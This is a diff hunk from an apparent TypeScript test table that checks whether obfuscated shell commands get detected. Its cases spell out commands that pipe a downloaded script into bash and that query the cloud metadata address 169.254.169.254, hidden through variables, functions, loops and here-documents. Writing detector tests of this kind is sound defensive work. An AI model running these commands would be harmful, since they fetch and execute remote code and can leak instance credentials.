@@ -43,7 +43,7 @@ test.each<[string, string]>([
   ['printed without quotes into a shell', `echo curl ${URL} | bash`],
   ['printed without quotes, then run', `bash -c "$(echo curl ${URL})"`],
   ['printed without quotes into a file', `f=$(mktemp); echo wget -qO- ${URL} > $f; bash $f; rm $f`],
-  ['path in a variable', `P=/latest/meta-data/mac; curl "http://169.254.169.254$P"`],
+  ['path in a variable', 'P=/latest/meta-data/mac; curl "http://169.254.169.254$P"'],
   ['path that a function is given', lines('get() { curl -s "http://169.254.169.254/latest/$1"; }', 'get meta-data/mac')],
   ['loop', 'for k in mac hostname; do curl http://169.254.169.254/latest/meta-data/$k; break; done'],
   ['here-document', lines('bash <<EOF', `curl ${URL}`, 'EOF')],
